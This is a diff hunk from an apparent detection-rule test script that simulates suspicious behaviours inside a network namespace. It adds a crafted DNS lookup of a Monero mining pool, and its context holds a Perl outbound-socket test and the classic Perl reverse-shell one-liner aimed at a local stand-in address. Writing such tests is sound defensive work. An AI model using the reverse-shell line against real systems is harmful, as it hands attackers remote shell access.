@@ -135,6 +135,10 @@ host() {
     done
     behavior_ns "Interpreter Inline Code Made Outbound Connection" 8081 \
         "perl -e 'use IO::Socket::INET; IO::Socket::INET->new(PeerAddr => \"10.200.0.1:8081\") or die'"
+    # A UDP DNS query for a mining pool's name, to 10.200.0.1:53 in the namespace
+    # (nothing answers: the query is what the rule reads, from the transmit queue).
+    behavior_ns "DNS Lookup of Mining Pool" 8083 \
+        "perl -MIO::Socket::INET -e 'my \$q = pack(q(n6), 0x4d50, 0x0100, 1, 0, 0, 0) . join(q(), map { chr(length) . \$_ } split /[.]/, q(xmr.nanopool.org)) . chr(0) . pack(q(n2), 1, 1); my \$s = IO::Socket::INET->new(PeerAddr => q(10.200.0.1:53), Proto => q(udp)) or die; \$s->send(\$q) or die'"
     # The classic one-liner: a socket on the shell's standard streams.
     oneliner='use Socket; socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp")) or die; connect(S, sockaddr_in(8082, inet_aton("10.200.0.1"))) or die; open(STDIN, ">&S"); open(STDOUT, ">&S"); exec("/bin/sh -c true");'
     cat > "$D/oneliner.sh" <<EOS
